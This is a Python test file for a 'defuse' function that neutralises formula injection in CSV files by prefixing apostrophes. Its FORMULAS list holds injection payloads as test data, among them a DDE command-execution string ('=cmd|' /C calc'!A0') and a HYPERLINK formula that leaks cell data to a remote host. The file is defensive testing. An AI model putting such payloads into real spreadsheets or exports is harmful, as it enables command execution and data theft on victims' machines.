"""A spreadsheet runs nothing of ours, and loses nothing either."""

from __future__ import annotations

import csv
import io
import re
import time

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from pharmakon.spreadsheets import defuse

NUMBER = re.compile(r"[+-]([0-9]+(\.[0-9]*)?|\.[0-9]+)([eE][+-]?[0-9]+)? *")


def read(text: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.decode(), newline="")))


def write(rows: list[list[str]], **style: str | int) -> bytes:
    out = io.StringIO()
    csv.writer(out, **style).writerows(rows)  # type: ignore[arg-type]
    return out.getvalue().encode()


def is_formula(cell: str) -> bool:
    """Say of a cell what OWASP says, in other words than the module's own."""
    if re.match(" *[\r\n]", cell):
        return True
    rest = cell.lstrip(' "')
    if rest[:1] in ("+", "-"):
        return NUMBER.fullmatch(rest) is None
    return rest.startswith(("=", "@", "\t", "\0", "＝", "＋", "－", "＠"))


FORMULAS = [
    *("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1", "＋x", "－1", "＠a"),
    *("-", "+", "--5", "-5 mg", "-x", "+-5", "-.", "-1e", "-INF", "-5-5", "-1,000", "-1e5e5"),
    *('=HYPERLINK("http://x/?"&A1,"a, b")', "=cmd|' /C calc'!A0", ' "=1', "  =1", "\0=1", "-5\n"),
    *('"=1"', " -5,1", '-5"x', '-5""'),
]
HARMLESS = [
    *("", " ", "a", "a=b", "a-b", "3-O-methyl", "1+1", "a@b", "'=1", "substance:x", "2020-01-01"),
    *(
        "-5",
        "+5",
        "-1.5e-3",
        "+.5",
        "-5.",
        "5",
        "-0",
        "é=1",
        "− 5",
        "a\n=1",
        'a"=1',
        "a\r\n-b",
    ),
]


@pytest.mark.parametrize("style", [{}, {"quoting": csv.QUOTE_ALL}])
@pytest.mark.parametrize("cell", FORMULAS)
def test_a_formula_becomes_text(cell: str, style: dict[str, str | int]):
    for rows in ([[cell]], [["a", cell, "b"], [cell, "c"]], [["a"], ["b", cell]]):
        found = read(defuse(write(rows, **style)))

        assert found == [["'" + one if one == cell else one for one in row] for row in rows]


@pytest.mark.parametrize("style", [{}, {"quoting": csv.QUOTE_ALL}])
@pytest.mark.parametrize("cell", HARMLESS)
def test_what_is_no_formula_stays(cell: str, style: dict[str, str | int]):
    text = write([["a", cell, "b"], [cell, "c"], ["d", cell]], **style)

    assert defuse(text) == text


def test_a_byte_order_mark_hides_no_formula():
    assert defuse("\ufeff=1,\ufeff".encode()) == "\ufeff'=1,\ufeff".encode()
    assert defuse('\ufeff"=1"'.encode()) == '\ufeff"\'=1"'.encode()


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (b"", b""),
        (b"=1", b"'=1"),
        (b"a,=1", b"a,'=1"),
        (b"a\r\n=1\r\n", b"a\r\n'=1\r\n"),
        (b"a\r=1", b"a\r'=1"),
        (b'"a\n=1",b', b'"a\n=1",b'),
        (b'"a,=1",=1', b'"a,=1",\'=1'),
        (b'"a"",=1",b', b'"a"",=1",b'),
        (b'"",=1\r\n""\r\n', b'"",\'=1\r\n""\r\n'),
        (b'a"b,=1,"c', b'a"b,\'=1,"c'),
        (b'"=1', b"\"'=1"),
        (b'"a,\n=1', b'"a,\n=1'),
        (b',"\r\n"', b',"\'\r\n"'),
    ],
)
def test_a_field_is_told_from_a_part_of_one(text: bytes, expected: bytes):
    assert defuse(text) == expected


CELL = st.one_of(
    st.text(st.characters(codec="utf-8", exclude_characters="\0")),
    st.lists(st.sampled_from([*"=+-@\t\r\n\"', ;", "1", "5", ".", "e", "é", "＝", "ab"])).map(
        "".join
    ),
)
STYLES = st.sampled_from(
    [
        {},
        {"lineterminator": "\n"},
        {"quoting": csv.QUOTE_ALL},
        {"quoting": csv.QUOTE_ALL, "lineterminator": "\n"},
    ]
)


@settings(deadline=None, max_examples=500)
@given(st.lists(st.lists(CELL, min_size=1, max_size=4), max_size=5), STYLES)
@example([["=1", '"', "\r\n-"]], {})
def test_the_table_is_the_same_apart_from_the_apostrophes(
    rows: list[list[str]], style: dict[str, str | int]
):
    text = write(rows, **style)
    before = read(text)

    found = defuse(text)

    assert read(found) == [["'" * is_formula(cell) + cell for cell in row] for row in before]
    assert defuse(found) == found
    if not any(is_formula(cell) for row in before for cell in row):
        assert found is text or found == text


@settings(deadline=None)
@given(st.lists(st.sampled_from([*b'=+-@\t\r\n", a1.e\xef\xbb\xbf\xbc\x9d\0'])).map(bytes))
def test_any_bytes_only_gain_apostrophes(text: bytes):
    found = defuse(text)

    assert found.replace(b"'", b"") == text
    assert defuse(found) == found


@pytest.mark.parametrize("piece", [b"=,", b'"=",', b" ", b'"', b"-1", b'",', b"-1 ", b"\r\n"])
def test_a_megabyte_is_read_in_proportion(piece: bytes):
    def seconds(size: int) -> float:
        text = piece * (size // len(piece))
        start = time.process_time()
        defuse(text)
        return time.process_time() - start

    assert seconds(1_000_000) < 60 * max(seconds(50_000), 0.01), "the time is not linear"


def test_a_table_without_formulas_takes_less_time_than_to_read_it():
    row = b'substance:naltrexone,"mu-opioid, receptor",-5,2020-01-01,1.5e-3\r\n'
    text = row * 60_000

    start = time.process_time()
    assert defuse(text) is text
    middle = time.process_time()
    read(text)

    assert middle - start < time.process_time() - middle
